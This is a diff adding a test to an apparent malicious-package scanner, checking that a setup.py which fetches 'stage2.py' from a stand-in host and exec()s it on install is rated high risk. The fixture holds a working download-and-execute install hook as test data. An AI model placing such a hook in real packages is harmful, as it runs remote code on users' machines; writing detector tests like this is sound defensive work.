@@ -313,3 +313,20 @@ def test_a_computed_start_of_a_download_in_setup_py_stays_high(tmp_path):
     )
     res = _scan(tmp_path, evil)
     assert res.risk.level in HIGH
+
+
+def test_a_helper_named_open_that_fetches_is_no_file_opener(tmp_path):
+    setup_py = """import urllib.request
+from setuptools import setup
+
+def open_remote(name):
+    return urllib.request.urlopen("http://203.0.113.8/" + name)
+
+with open_remote("stage2.py") as f:
+    exec(f.read())
+setup(name="tidy")
+"""
+    res = _scan(tmp_path, setup_py)
+    assert res.risk.level in HIGH
+    execs = [h for h in res.findings if h.path == "setup.py" and h.capability.startswith("exec.")]
+    assert execs and all(h.rule != "py.exec_local_file" for h in execs)
